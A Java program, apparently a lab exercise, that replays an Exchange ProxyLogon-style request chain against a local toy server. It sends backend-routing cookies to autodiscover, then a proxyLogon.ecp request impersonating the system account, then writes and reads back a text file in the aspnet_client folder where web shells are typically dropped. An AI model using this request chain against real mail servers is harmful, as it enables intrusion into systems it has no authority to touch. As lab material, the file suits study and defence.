import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/** Lab request chain against the local toy server; constants named, URLs built with String.format. */
public final class LabChain {
    private static final String CHROME = "88.0.4324.190";
    private static final String USER_AGENT = String.format(
            "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%s Safari/537.36", CHROME);
    private static final String DOMAIN = "lab.invalid";
    private static final String MAILBOX = "administrator@" + DOMAIN;
    private static final long BACKEND_TICKET = 1843073522L;
    private static final int NOTE_ID = 91453;
    private static final String NOTE_PATH = "/aspnet_client/system_web/readme_" + NOTE_ID + ".txt";
    private static final String REQUEST_ID = "20200302-7720";
    private static final int PAD = 37;

    private LabChain() {}

    private static HttpRequest.Builder browser(URI uri) {
        return HttpRequest.newBuilder(uri)
                .timeout(Duration.ofSeconds(10))
                .header("User-Agent", USER_AGENT)
                .header("x-requested-with", "XMLHttpRequest")
                .header("Accept", "*/*")
                .header("accept-language", "en-US,en;q=0.9");
    }

    public static void main(String[] args) throws Exception {
        String base = String.format("http://127.0.0.1:%s", args.length > 0 ? args[0] : "8080");
        HttpClient http = HttpClient.newHttpClient();

        String email = URLEncoder.encode(MAILBOX + "/mapi/nspi", StandardCharsets.UTF_8);
        String query = String.format("Pad=%s&Protocol=Autodiscoverv1&Email=%s&RequestId=%s", "A".repeat(PAD), email, REQUEST_ID);
        String cookie = "X-AnonResource=true; X-AnonResource-Backend=" + DOMAIN
                + "; X-BEResource=localhost@" + DOMAIN + "/ews/exchange.asmx?a%3D~" + BACKEND_TICKET;
        HttpRequest probe = browser(URI.create(base + "/autodiscover/autodiscover.json?" + query))
                .header("cookie", cookie).GET().build();
        HttpResponse<String> first = http.send(probe, HttpResponse.BodyHandlers.ofString());
        if (first.statusCode() >= 500) {
            System.exit(1);
        }

        String body = String.format("{\"mailbox\": \"%s\", \"requestKind\": \"identity\", \"seq\": 1}", MAILBOX);
        HttpRequest ident = HttpRequest.newBuilder(URI.create(base + "/ecp/proxyLogon.ecp"))
                .header("user-agent", USER_AGENT)
                .header("msexchlogonmailbox", "S-1-5-20")
                .header("content-type", "application/json")
                .header("X-BEResource", "localhost@%s/ecp/proxyLogon.ecp".formatted(DOMAIN))
                .POST(HttpRequest.BodyPublishers.ofString(body)).build();
        String who = http.send(ident, HttpResponse.BodyHandlers.ofString()).body().trim();
        if (who.isEmpty()) {
            who = "anonymous";
        }

        StringBuilder text = new StringBuilder();
        for (int i = 1; i <= 3; i++) {
            text.append(String.format("note %d of 3 for %s", i, who));
            if (i < 3) {
                text.append('\n');
            }
        }
        http.send(HttpRequest.newBuilder(URI.create(base + NOTE_PATH))
                .header("user-agent", USER_AGENT)
                .header("X-Note-Path", NOTE_PATH)
                .header("Content-Type", "text/plain")
                .POST(HttpRequest.BodyPublishers.ofString(text.toString())).build(),
                HttpResponse.BodyHandlers.discarding());
        HttpResponse<String> check = http.send(browser(URI.create(base + NOTE_PATH)).GET().build(),
                HttpResponse.BodyHandlers.ofString());
        System.out.println(check.body().length());
    }
}
